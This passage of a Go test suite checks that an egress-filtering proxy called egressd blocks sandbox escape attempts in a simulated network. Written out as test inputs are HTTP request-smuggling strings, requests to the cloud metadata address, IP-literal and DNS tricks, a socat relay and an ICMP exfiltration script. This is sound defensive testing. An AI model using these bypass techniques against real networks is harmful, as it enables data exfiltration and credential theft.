	// The tunnel the new policy still allows keeps working.
	if reply, err := getOn(keep, keepBR, "keep.test", 5*time.Second); err != nil || reply.SNI != "keep.test" {
		t.Errorf("the keep.test tunnel broke on a reload that still allows it: %+v %v", reply, err)
	}
	// New connections to the dropped host are refused.
	resp := e.rawHTTP("127.0.0.1", proxyPort, "seq", "CONNECT drop.test:443 HTTP/1.1\r\nHost: drop.test:443\r\n\r\n")
	if len(resp) != 1 || resp[0].Status != http.StatusForbidden {
		t.Errorf("new CONNECT drop.test:443 after the reload: want 403, got %+v", resp)
	}
	if p := e.probeTCP(ap(host4, 7), "after\n"); !refusedFast(p, "after\n") {
		t.Errorf("new raw TCP to the echo server after the reload: want a refusal, got %+v", p)
	}
	if n := e.w.HTTPRequests("drop.test"); n != 1 {
		t.Errorf("world served %d requests for drop.test, want only the one before the reload", n)
	}
	if n := e.w.TCPAccepted(ap(host4, 7)); n != 1 {
		t.Errorf("echo server accepted %d connections, want only the one before the reload", n)
	}
}

func TestOneAuditLinePerDecision(t *testing.T) {
	t.Parallel()
	e := newEnv(t, basePolicy)
	allowSrc, blockSrc := e.source(lineOf(t, basePolicy, `"allowed.test"`)), e.source(lineOf(t, basePolicy, `"blocked.test"`))

	// A known set of actions, one at a time so each record is complete
	// before the next action.
	e.dig("allowed.test")
	e.dig("blocked.test")
	e.mustFetch("allowed.test", "-x", proxyURL, "https://allowed.test/")
	e.curl("-x", proxyURL, "https://blocked.test/")
	e.mustFetch("allowed.test", "-4", "http://allowed.test/transparent") // a DNS query (A only) and an HTTP request
	e.probeTCP(ap(host4b, 7), "nope\n")

	type line struct {
		Kind, Target string
		Port         uint16
		QType        string
		Decision     string
		Reason       string
		Rule, Source string
		Up, Down     bool // bytes_up > 0, bytes_down > 0
	}
	want := []line{
		{"dns", "allowed.test", 53, "A", "allow", "allowed-by", "allowed.test", allowSrc, false, false},
		{"dns", "blocked.test", 53, "A", "deny", "blocked-by", "blocked.test", blockSrc, false, false},
		{"connect", "allowed.test", 443, "", "allow", "allowed-by", "allowed.test", allowSrc, true, true},
		{"connect", "blocked.test", 443, "", "deny", "blocked-by", "blocked.test", blockSrc, false, false},
		{"dns", "allowed.test", 53, "A", "allow", "allowed-by", "allowed.test", allowSrc, false, false},
		// A plain-HTTP request counts body bytes: a GET sends none.
		{"http", "allowed.test", 80, "", "allow", "allowed-by", "allowed.test", allowSrc, false, true},
		{"tcp", host4b.String(), 7, "", "deny", "no-allow-rule", "", "", false, false},
	}
	var got []line
	var recs []auditRecord
	eventually(5*time.Second, func() bool { recs = e.audit(); return len(recs) >= len(want) })
	time.Sleep(300 * time.Millisecond) // nothing more may arrive
	recs = e.audit()
	for _, r := range recs {
		got = append(got, line{r.Kind, r.Target, r.Port, r.QType, r.Decision, r.Reason, r.Rule, r.Source, r.BytesUp > 0, r.BytesDown > 0})
		if r.SandboxID != "e2e-"+e.s.Name() || r.Time.IsZero() {
			t.Errorf("record %+v: want sandbox_id %q and a time", r, "e2e-"+e.s.Name())
		}
		if r.Kind != "dns" && r.Client == "" {
			t.Errorf("record %+v names no client", r)
		}
	}
	// Records are written when decided (denials) or when the connection
	// ends (allowed connections), so compare as sets.
	less := func(a, b line) bool { return fmt.Sprint(a) < fmt.Sprint(b) }
	sort.Slice(want, func(i, j int) bool { return less(want[i], want[j]) })
	sort.Slice(got, func(i, j int) bool { return less(got[i], got[j]) })
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("audit lines (-want +got):\n%s\nlog:\n%s", diff, e.auditText())
	}
}

// ---- THREATS classes -------------------------------------------------------

func TestIPv6ToWorldIsFiltered(t *testing.T) {
	t.Parallel()
	e := newEnv(t, basePolicy)

	// First the attacks, while no name has taught egressd the address.
	if reply, r, ok := e.fetch("-6", "--noproxy", "*", "https://[2001:db8::10]/"); ok {
		t.Errorf("HTTPS to the IPv6 literal got the server's reply %+v\n%s", reply, r)
	}
	if reply, r, ok := e.fetch("-6", "http://[2001:db8::10]/"); ok {
		t.Errorf("HTTP to the IPv6 literal got the server's reply %+v\n%s", reply, r)
	}
	if p := e.probeTCP(ap(host6, 7), "v6-echo\n"); !refusedFast(p, "v6-echo\n") {
		t.Errorf("raw IPv6 TCP to %s was echoed: %+v", ap(host6, 7), p)
	}
	if p := probeUDP(t, e.s, ap(host6, 7), "v6-udp"); p.Reply != "" {
		t.Errorf("IPv6 UDP to %s got a reply: %+v", ap(host6, 7), p)
	}
	for _, port := range []uint16{80, 443, 7} {
		if n := e.w.TCPAccepted(ap(host6, port)); n != 0 {
			t.Errorf("world accepted %d IPv6 connections on %s", n, ap(host6, port))
		}
	}
	if n := e.w.UDPReceived(ap(host6, 7)); n != 0 {
		t.Errorf("world received %d IPv6 datagrams on %s", n, ap(host6, 7))
	}
	// Positive: IPv6 by an allowed name works in the same setup.
	reply := e.mustFetch("v6only.test", "-6", "https://v6only.test/")
	if reply.Local.Addr() != host6 {
		t.Errorf("v6only.test answered on %s, want %s", reply.Local, host6)
	}
	// THREATS E1: now that the address is learned for v6only.test, TLS
	// without SNI to it (curl sends none to an IP literal) is still
	// refused: no name, and no allow IP rule names the address.
	before := e.w.HTTPRequests("2001:db8::10")
	if reply, r, ok := e.fetch("-6", "--noproxy", "*", "https://[2001:db8::10]/"); ok {
		t.Errorf("TLS without SNI to a learned address got the server's reply %+v\n%s", reply, r)
	}
	if n := e.w.HTTPRequests("2001:db8::10") - before; n != 0 {
		t.Errorf("the world served %d requests without SNI", n)
	}
}

func TestUDPToOtherPortsAndICMPFail(t *testing.T) {
	t.Parallel()
	w := fakenet.Start(t)
	setRecords(w)
	alt, err := w.ListenUDP(ap(dnsAddr, 5353))
	if err != nil {
		t.Fatal(err)
	}
	go func() { // the world counts what is read; nothing answers
		buf := make([]byte, 2048)
		for {
			if _, _, err := alt.ReadFrom(buf); err != nil {
				return
			}
		}
	}()
	s := w.NewSandbox(t)
	e := startEgressd(t, w, s, basePolicy)
	// A second sandbox in the same world without egressd or firewall: the
	// same probes from it must arrive, or this test proves nothing.
	control := w.NewSandbox(t)

	targets := []netip.AddrPort{ap(host4, 7), ap(host6, 7), ap(host4, 443), ap(dnsAddr, 5353)}
	for _, a := range targets {
		if p := probeUDP(t, control, a, "control"); !p.Sent {
			t.Fatalf("control sandbox could not send UDP to %s: %+v", a, p)
		}
	}
	if p := probeUDP(t, control, ap(host4, 7), "ctl-echo"); p.Reply != "ctl-echo" {
		t.Fatalf("control sandbox got no UDP echo from %s: %+v", ap(host4, 7), p)
	}
	controlSeen := map[netip.AddrPort]int{}
	for _, a := range targets {
		controlSeen[a] = w.UDPReceived(a)
	}
	for _, a := range []netip.AddrPort{ap(host4, 7), ap(host6, 7), ap(dnsAddr, 5353)} {
		if controlSeen[a] == 0 {
			t.Fatalf("the world counted no datagrams from the control sandbox on %s", a)
		}
	}

	for _, a := range targets {
		if p := probeUDP(t, e.s, a, "leak"); p.Reply != "" {
			t.Errorf("UDP to %s from the sandbox got a reply: %+v", a, p)
		}
		if n := w.UDPReceived(a) - controlSeen[a]; n != 0 {
			t.Errorf("world received %d datagrams on %s from the filtered sandbox", n, a)
		}
	}

	// ICMP echo, with a raw socket (the sandbox process here is root) and
	// with an unprivileged ping socket.
	ping := `
import socket, struct, sys
def csum(b):
    s = sum(struct.unpack("!%dH" % (len(b)//2), b))
    s = (s >> 16) + (s & 0xffff); s += s >> 16
    return ~s & 0xffff
dst = sys.argv[1]
out = []
for kind in ("raw", "dgram"):
    try:
        if ":" in dst:
            s = socket.socket(socket.AF_INET6, socket.SOCK_RAW if kind == "raw" else socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)
            pkt = struct.pack("!BBHHH", 128, 0, 0, 0x1234, 1) + b"exfil-data"
        else:
            s = socket.socket(socket.AF_INET, socket.SOCK_RAW if kind == "raw" else socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
            hdr = struct.pack("!BBHHH", 8, 0, 0, 0x1234, 1) + b"exfil-data"
            pkt = struct.pack("!BBHHH", 8, 0, csum(hdr), 0x1234, 1) + b"exfil-data"
        s.settimeout(1)
        s.sendto(pkt, (dst, 0))
        out.append(kind + ":sent")
    except Exception as e:
        out.append(kind + ":" + type(e).__name__)
print(" ".join(out))
`
	for _, dst := range []netip.Addr{host4, host6} {
		c4, c6 := icmpEchoes(t, w)
		run(t, control, "", pythonBin, "-c", ping, dst.String())
		n4, n6 := icmpEchoes(t, w)
		if n4+n6 <= c4+c6 {
			t.Fatalf("ICMP echo to %s from the control sandbox did not arrive (counters %d/%d → %d/%d)", dst, c4, c6, n4, n6)
		}
		r := e.python(ping, dst.String())
		m4, m6 := icmpEchoes(t, w)
		if m4 != n4 || m6 != n6 {
			t.Errorf("ICMP echo to %s from the filtered sandbox arrived (%s; counters %d/%d → %d/%d)", dst, strings.TrimSpace(r.stdout), n4, n6, m4, m6)
		}
	}
}

func TestCONNECTToIPLiteralDenied(t *testing.T) {
	t.Parallel()
	e := newEnv(t, basePolicy)

	for _, target := range []string{"203.0.113.10:443", "[2001:db8::10]:443", "3405803786:443", "0xcb.0.113.10:443", "203.0.113.010:443"} {
		resp := e.rawHTTP("127.0.0.1", proxyPort, "seq", "CONNECT "+target+" HTTP/1.1\r\nHost: "+target+"\r\n\r\n")
		if len(resp) != 1 || resp[0].Status < 400 {
			t.Errorf("CONNECT %s: want a 4xx refusal, got %+v", target, resp)
		}
	}
	for _, u := range []string{"https://203.0.113.10/", "http://203.0.113.10/", "https://[2001:db8::10]/", "http://198.51.100.10/"} {
		if reply, r, ok := e.fetch("-k", "-x", proxyURL, u); ok {
			t.Errorf("curl via proxy %s: the server answered %+v\n%s", u, reply, r)
		}
	}
	for _, a := range []netip.AddrPort{ap(host4, 443), ap(host4, 80), ap(host6, 443), ap(host4b, 80)} {
		if n := e.w.TCPAccepted(a); n != 0 {
			t.Errorf("world accepted %d connections on %s", n, a)
		}
	}
	// Positive: the same address by an allowed name.
	e.mustFetch("allowed.test", "-x", proxyURL, "https://allowed.test/")
}

func TestTrailingDotAndCaseVariantsOfBlockedNameDenied(t *testing.T) {
	t.Parallel()
	e := newEnv(t, basePolicy)

	// Positive: variants of the allowed name work.
	// egressd forwards the canonical name (THREATS A6: the Host is rebuilt).
	e.mustFetch("allowed.test", "-x", proxyURL, "http://ALLOWED.test./")
	// Inside a tunnel the Host is the client's own spelling.
	if reply := e.mustFetch("Allowed.Test", "-x", proxyURL, "https://Allowed.Test/"); !strings.EqualFold(reply.SNI, "allowed.test") {
		t.Errorf("SNI %q through the tunnel", reply.SNI)
	}
	if d := e.dig("Allowed.Test."); d.status != "NOERROR" || len(d.answers) != 1 {
		t.Errorf("dig Allowed.Test.: %s", d)
	}

	for _, name := range []string{"blocked.test.", "BLOCKED.TEST", "Blocked.Test.", "bLoCkEd.tEsT"} {
		if d := e.dig(name); d.status != "NXDOMAIN" {
			t.Errorf("dig %s: want NXDOMAIN, got %s", name, d)
		}
		resp := e.rawHTTP("127.0.0.1", proxyPort, "seq", "CONNECT "+name+":443 HTTP/1.1\r\nHost: "+name+":443\r\n\r\n")
		if len(resp) != 1 || resp[0].Status != http.StatusForbidden || !strings.Contains(resp[0].Body, "blocked-by blocked.test") {
			t.Errorf("CONNECT %s:443: want 403 blocked-by blocked.test, got %+v", name, resp)
		}
		if reply, r, ok := e.fetch("-x", proxyURL, "http://"+name+"/"); ok {
			t.Errorf("plain HTTP via proxy to %s: server answered %+v\n%s", name, reply, r)
		}
		// Transparent: the front end's address, the variant as SNI.
		if reply, r, ok := e.fetch("--resolve", name+":443:203.0.113.10", "https://"+name+"/"); ok {
			t.Errorf("transparent HTTPS with SNI %s: server answered %+v\n%s", name, reply, r)
		}
	}
	for _, h := range e.w.HTTPLog() {
		if n := strings.ToLower(strings.TrimSuffix(h.Host, ".")); n == "blocked.test" || strings.EqualFold(strings.TrimSuffix(h.SNI, "."), "blocked.test") {
			t.Errorf("world served a request for %q (SNI %q)", h.Host, h.SNI)
		}
	}
	if n := e.w.DNSQueries("blocked.test"); n != 0 {
		t.Errorf("world's DNS saw %d queries for blocked.test", n)
	}
}

func TestMetadataAddressDenied(t *testing.T) {
	t.Parallel()
	meta := netip.MustParseAddr("169.254.169.254")
	w := fakenet.Start(t, fakenet.WithHosts(meta))
	setRecords(w)
	s := w.NewSandbox(t)
	e := startEgressd(t, w, s, basePolicy)

	// Control: the fake metadata service answers a sandbox without egressd.
	control := w.NewSandbox(t)
	r := run(t, control, "", "curl", "-sS", "--max-time", "5", "http://169.254.169.254/latest/meta-data/")
	if reply, err := fakenet.ParseReply([]byte(r.stdout)); err != nil || reply.Local.Addr() != meta {
		t.Fatalf("control: the fake metadata service did not answer: %v\n%s", err, r)
	}
	w.ResetCounters()
	e.mustFetch("allowed.test", "-x", proxyURL, "https://allowed.test/")

	for _, args := range [][]string{
		{"-x", proxyURL, "http://169.254.169.254/latest/meta-data/"},
		{"-x", proxyURL, "-H", "Metadata: true", "http://169.254.169.254/metadata/instance"},
		{"--noproxy", "*", "http://169.254.169.254/latest/meta-data/"},
		{"-x", proxyURL, "http://[::ffff:169.254.169.254]/"},
		{"-x", proxyURL, "http://2852039166/"},
		{"--resolve", "allowed.test:80:169.254.169.254", "http://allowed.test/"},
	} {
		if reply, r, ok := e.fetch(args...); ok && reply.Local.Addr() == meta {
			t.Errorf("curl %s reached the metadata service:\n%s", strings.Join(args, " "), r)
		}
	}
	for _, port := range []uint16{80, 443} {
		if n := w.TCPAccepted(ap(meta, port)); n != 0 {
			t.Errorf("metadata service accepted %d connections on port %d", n, port)
		}
	}
	if got := httpFrom(w, func(h fakenet.HTTPRequest) bool { return h.Local.Addr() == meta }); len(got) != 0 {
		t.Errorf("metadata service logged requests: %+v", got)
	}
}

func TestAdminSocketNotReachableFromSandbox(t *testing.T) {
	t.Parallel()

	t.Run("unix", func(t *testing.T) {
		t.Parallel()
		e := newEnv(t, basePolicy)
		if code, body := e.admin(http.MethodGet, "/healthz"); code != http.StatusOK {
			t.Fatalf("admin /healthz from outside: %d %s", code, body)
		}
		sock := strings.TrimPrefix(e.adminAddr, "unix:")
		fi, err := os.Stat(sock)
		if err != nil {
			t.Fatal(err)
		}
		if perm := fi.Mode().Perm(); perm&0o077 != 0 {
			t.Errorf("admin socket mode %v: others may connect", perm)
		}
		// The harness enters only the sandbox's network namespace, so the
		// socket's path is visible here (a container would not even have
		// it mounted). Even so, a non-root sandbox user cannot use it.
		r := run(t, e.s, "", "setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
			"curl", "-sS", "--max-time", "3", "--unix-socket", sock, "http://x/metrics")
		if r.code == 0 || strings.Contains(r.stdout, "egressd_") {
			t.Errorf("an unprivileged sandbox process read the admin socket:\n%s", r)
		}
		// No TCP listener of egressd serves it inside the sandbox.
		ss := run(t, e.s, "", "ss", "-Hltn")
		for _, line := range strings.Split(strings.TrimSpace(ss.stdout), "\n") {
			f := strings.Fields(line)
			if len(f) < 4 {
				continue
			}
			local := f[3]
			if !strings.HasSuffix(local, fmt.Sprintf(":%d", proxyPort)) && !strings.HasSuffix(local, fmt.Sprintf(":%d", transparentPort)) && !strings.HasSuffix(local, fmt.Sprintf(":%d", dnsPort)) {
				t.Errorf("unexpected TCP listener in the sandbox: %s", line)
			}
		}
	})

	t.Run("tcp", func(t *testing.T) {
		t.Parallel()
		w := fakenet.Start(t)
		setRecords(w)
		s := w.NewSandbox(t)
		e := startEgressdWith(t, w, s, startOpts{policyTOML: basePolicy, adminTCP: "127.0.0.1:15090"})
		// Positive: egressd's own (marked) socket reaches it.
		if code, body := e.admin(http.MethodGet, "/healthz"); code != http.StatusOK {
			t.Fatalf("admin /healthz with the mark: %d %s", code, body)
		}
		e.mustFetch("allowed.test", "-x", proxyURL, "https://allowed.test/")
		r := e.curl("http://127.0.0.1:15090/metrics")
		if r.code == 0 || strings.Contains(r.stdout, "egressd_") {
			t.Errorf("curl to the admin port from the sandbox:\n%s", r)
		}
		if r := e.curl("-X", "POST", "http://[::1]:15090/reload"); r.code == 0 {
			t.Errorf("POST /reload to [::1]:15090 from the sandbox:\n%s", r)
		}
		// Nor through the proxy.
		r = e.curl("-x", proxyURL, "http://127.0.0.1:15090/metrics")
		if strings.Contains(r.stdout, "egressd_") {
			t.Errorf("admin metrics through the proxy:\n%s", r)
		}
		// Nor by asking the proxy to connect to itself.
		resp := e.rawHTTP("127.0.0.1", proxyPort, "seq", "CONNECT 127.0.0.1:3128 HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n\r\n")
		if len(resp) != 1 || resp[0].Status < 400 {
			t.Errorf("CONNECT to the proxy itself: want a refusal, got %+v", resp)
		}
	})
}

func TestEgressdDeathFailsClosed(t *testing.T) {
	t.Parallel()
	e := newEnv(t, basePolicy)
	e.mustFetch("allowed.test", "https://allowed.test/")
	e.mustFetch("allowed.test", "-x", proxyURL, "https://allowed.test/")

	e.kill()
	e.w.ResetCounters()
	assertNothingLeavesWithEgressdDead(t, e.w, e.s, e.fetch)
}

// ---- more attacks, cheap with the helpers ------------------------------------

func TestTransparentSNISpoofIsDialledToTheNamesOwnAddress(t *testing.T) {
	t.Parallel()
	e := newEnv(t, basePolicy)

	// THREATS A3: connect to another address, claim an allowed SNI. egressd
	// dials the name's own vetted address, never the client's.
	reply := e.mustFetch("allowed.test", "--resolve", "allowed.test:443:198.51.100.10", "https://allowed.test/")
	if reply.Local != ap(host4, 443) {
		t.Errorf("the request was served by %s, want allowed.test's own address %s", reply.Local, ap(host4, 443))
	}
	if n := e.w.TCPAccepted(ap(host4b, 443)); n != 0 {
		t.Errorf("the client's chosen address %s accepted %d connections", ap(host4b, 443), n)
	}
}

func TestAbsoluteURIWithOtherHostHeaderDenied(t *testing.T) {
	t.Parallel()
	e := newEnv(t, basePolicy)
	e.mustFetch("allowed.test", "-x", proxyURL, "http://allowed.test/")
	e.w.ResetCounters()

	for _, req := range []string{
		"GET http://allowed.test/ HTTP/1.1\r\nHost: blocked.test\r\n\r\n",
		"GET http://blocked.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
		"GET http://allowed.test@blocked.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
		"GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nHost: blocked.test\r\n\r\n",
	} {
		resp := e.rawHTTP("127.0.0.1", proxyPort, "seq", req)
		if len(resp) == 0 || resp[0].Status < 400 || strings.Contains(resp[0].Body, "fakenet") {
			t.Errorf("%q: want a refusal, got %+v", req, resp)
		}
	}
	// The transparent path: allowed.test's address, Host of another name.
	resp := e.rawHTTP(host4.String(), 80, "seq", "GET / HTTP/1.1\r\nHost: blocked.test\r\n\r\n")
	if len(resp) == 0 || strings.Contains(resp[0].Body, "fakenet") {
		t.Errorf("transparent request with Host: blocked.test: %+v", resp)
	}
	if n := len(e.w.HTTPLog()); n != 0 {
		t.Errorf("world served %d requests: %+v", n, e.w.HTTPLog())
	}
}

func TestSmuggledRequestNeverReachesWorld(t *testing.T) {
	t.Parallel()
	e := newEnv(t, basePolicy)
	e.mustFetch("allowed.test", "-x", proxyURL, "http://allowed.test/")
	e.w.ResetCounters()

	smuggle := "POST http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" +
		"GET http://blocked.test/ HTTP/1.1\r\nHost: blocked.test\r\n\r\n"
	upgrade := "GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n"
	for _, req := range []string{smuggle, upgrade} {
		resp := e.rawHTTP("127.0.0.1", proxyPort, "pipe", req)
		for _, r := range resp {
			if r.Status == http.StatusSwitchingProtocols {
				t.Errorf("%q: the proxy switched protocols: %+v", req, r)
			}
		}
	}
	if n := e.w.HTTPRequests("blocked.test"); n != 0 {
		t.Errorf("a smuggled request for blocked.test reached the world %d times", n)
	}
	for _, h := range e.w.HTTPLog() {
		if h.Method == "POST" {
			t.Errorf("the ambiguous POST was forwarded: %+v", h)
		}
	}
}

func TestLocalRelayDoesNotBypassPolicy(t *testing.T) {
	t.Parallel()
	e := newEnv(t, basePolicy)
	// THREATS A10: a relay inside the sandbox in front of the proxy.
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	relay := e.s.Exec(ctx, "socat", "TCP-LISTEN:9999,bind=127.0.0.1,reuseaddr,fork", "TCP:127.0.0.1:3128")
	if err := relay.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cancel(); _ = relay.Wait() })
	if !eventually(3*time.Second, func() bool {
		c, err := e.s.DialContext(ctx, "tcp", "127.0.0.1:9999")
		if err == nil {
			c.Close()
		}
		return err == nil
	}) {
		t.Fatal("socat relay did not start listening")
	}
	e.mustFetch("allowed.test", "-x", "http://127.0.0.1:9999", "https://allowed.test/")
	if reply, r, ok := e.fetch("-x", "http://127.0.0.1:9999", "https://blocked.test/"); ok {
		t.Errorf("CONNECT to blocked.test through a local relay reached %+v\n%s", reply, r)
	}
	if reply, r, ok := e.fetch("-x", "http://127.0.0.1:9999", "http://blocked.test/"); ok {
		t.Errorf("plain HTTP to blocked.test through a local relay reached %+v\n%s", reply, r)
	}
	if n := e.w.HTTPRequests("blocked.test"); n != 0 {
		t.Errorf("world served %d requests for blocked.test", n)
	}
}

func TestDNSQueryTypesThatLeakAreRefused(t *testing.T) {
	t.Parallel()
	e := newEnv(t, basePolicy)
	e.w.SetRecords("allowed.test", fakenet.A("203.0.113.10"), fakenet.RR("HTTPS", `1 . alpn="h2" ech=AEX+DQBBpQAgACB/5Aj0cvqwrTA6wkQnVkGTp5tjT5ztvg+Vn+GXh+GyJQAEAAEAAQASY2xvdWRmbGFyZS1lY2guY29tAAA=`))
	if d := e.dig("allowed.test"); d.status != "NOERROR" || len(d.answers) != 1 {
		t.Fatalf("dig allowed.test: %s", d)
	}
	// Control: asked directly from a sandbox without egressd, the world's
	// DNS does hand out the HTTPS record and answers ANY.
	control := e.w.NewSandbox(t)
	for _, q := range [][]string{{"HTTPS", "allowed.test"}, {"ANY", "allowed.test"}} {
		if d := dig(t, control, append([]string{"@" + dnsAddr.String()}, q...)...); len(d.answers) == 0 {
			t.Fatalf("control: dig %s at the world's DNS: %s", strings.Join(q, " "), d)
		}
	}
	e.w.ResetCounters()
	// THREATS D6/E2: ANY and zone transfers are refused; HTTPS/SVCB (which
	// carry ECH configs) are never forwarded, so the record is never seen.
	for _, q := range [][]string{{"ANY", "allowed.test"}, {"+tcp", "AXFR", "allowed.test"}, {"HTTPS", "allowed.test"}, {"TYPE64", "allowed.test"}} {
		if d := e.dig(q...); len(d.answers) != 0 {
			t.Errorf("dig %s: want no records, got %s", strings.Join(q, " "), d)
		}
	}
	if d := e.dig("ANY", "allowed.test"); d.status != "REFUSED" {
		t.Errorf("dig ANY allowed.test: want REFUSED, got %s", d)
	}
	for _, lq := range e.w.DNSLog() {
		if lq.Type != "A" && lq.Type != "AAAA" {
			t.Errorf("world's DNS saw a %s query for %s", lq.Type, lq.Name)
		}
	}
}

func TestLookalikeNamesOfAllowedHostDenied(t *testing.T) {
	t.Parallel()
	e := newEnv(t, basePolicy)
	e.mustFetch("allowed.test", "-x", proxyURL, "https://allowed.test/")
	// Each resolves in the world (the *.exfil.test wildcard, or a record of
	// its own), so a leak would be answered.
	for _, n := range []string{"notallowed.test", "allowed.testx", "xallowed.test"} {
		e.w.SetRecords(n, fakenet.A("203.0.113.10"))
	}
	// THREATS B3/B4: suffix and prefix look-alikes, a sub-domain of an
	// exact rule.
	for _, name := range []string{"notallowed.test", "allowed.testx", "xallowed.test", "allowed.test.exfil.test", "www.allowed.test"} {
		if d := e.dig(name); d.status != "NXDOMAIN" {
			t.Errorf("dig %s: want NXDOMAIN, got %s", name, d)
		}
		resp := e.rawHTTP("127.0.0.1", proxyPort, "seq", "CONNECT "+name+":443 HTTP/1.1\r\nHost: "+name+":443\r\n\r\n")
		if len(resp) != 1 || resp[0].Status != http.StatusForbidden || !strings.Contains(resp[0].Body, "no-allow-rule") {
			t.Errorf("CONNECT %s:443: want 403 no-allow-rule, got %+v", name, resp)
		}
		if n := e.w.DNSQueries(name); n != 0 {
			t.Errorf("world's DNS saw %d queries for %s", n, name)
		}
		if n := e.w.HTTPRequests(name); n != 0 {
			t.Errorf("world served %d requests for %s", n, name)
		}
	}
}

func TestCNAMEIntoBlockedNameDenied(t *testing.T) {
	t.Parallel()
	e := newEnv(t, basePolicy)
	// THREATS D7: an allowed name whose answer chain ends in a blocked one.
	e.w.SetRecords("alias.rebind.test", fakenet.CNAME("blocked.test"))
	e.w.SetRecords("hop.rebind.test", fakenet.CNAME("alias2.rebind.test"))
	e.w.SetRecords("alias2.rebind.test", fakenet.CNAME("blocked.test"))
	e.w.SetRecords("fine.rebind.test", fakenet.CNAME("allowed.test"))

	// Positive: a chain that stays inside the allowed set works.
	if d := e.dig("fine.rebind.test"); d.status != "NOERROR" || !slices.Contains(d.answers, "A 203.0.113.10") {
		t.Fatalf("dig fine.rebind.test: %s", d)
	}
	e.mustFetch("fine.rebind.test", "-x", proxyURL, "http://fine.rebind.test/")

	for _, name := range []string{"alias.rebind.test", "hop.rebind.test"} {
		d := e.dig(name)
		for _, a := range d.answers {
			if strings.HasPrefix(a, "A ") {
				t.Errorf("dig %s: an address of the blocked target came back: %s", name, d)
			}
		}
		if d.status != "NXDOMAIN" && d.status != "REFUSED" {
			t.Errorf("dig %s: want the whole answer denied, got %s", name, d)
		}
		if reply, r, ok := e.fetch("-x", proxyURL, "http://"+name+"/"); ok {
			t.Errorf("curl via proxy to %s reached %+v\n%s", name, reply, r)
		}
		if reply, r, ok := e.fetch("http://" + name + "/"); ok {
			t.Errorf("curl to %s reached %+v\n%s", name, reply, r)
		}
	}
	for _, h := range e.w.HTTPLog() {
		if h.Host != "fine.rebind.test" {
			t.Errorf("world served a request for %q", h.Host)
		}
	}
}

// ---- helpers for this file ---------------------------------------------------

// listenWorld runs a TCP server in the world on a that serves each
// connection with serve (which closes it); the world counts what it
// accepts (TCPAccepted) and closes the listener at teardown.
func listenWorld(t *testing.T, w *fakenet.World, a netip.AddrPort, serve func(net.Conn)) {
	t.Helper()
	ln, err := w.ListenTCP(a)
	if err != nil {
		t.Fatalf("listening on %s in the world: %v", a, err)
	}
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go serve(c)
		}
	}()
}

// listenBanner runs a TCP server in the world on a that says BANNER and
// hangs up.
func listenBanner(t *testing.T, w *fakenet.World, a netip.AddrPort) {
	t.Helper()
	listenWorld(t, w, a, func(c net.Conn) {
		_, _ = c.Write([]byte("BANNER " + a.String() + "\r\n"))
		c.Close()
	})
}

// refusedFast reports whether a raw TCP probe carrying payload was refused
// outright: no echo, and a reset or close rather than silence until the
// probe's timeout.
func refusedFast(p tcpProbe, payload string) bool {
	return p.Reply != payload && !strings.Contains(p.Error, "timed out")
}

// echoOnce writes s and reads the same number of bytes back.
func echoOnce(c interface {
	Write([]byte) (int, error)
	Read([]byte) (int, error)
	SetDeadline(time.Time) error
}, s string) string {
	_ = c.SetDeadline(time.Now().Add(3 * time.Second))
	defer c.SetDeadline(time.Time{})
	if _, err := c.Write([]byte(s)); err != nil {
		return "write: " + err.Error()
	}
	buf := make([]byte, len(s))
	n := 0
	for n < len(s) {
		m, err := c.Read(buf[n:])
		n += m
		if err != nil {
			break
		}
	}
	return string(buf[:n])
}
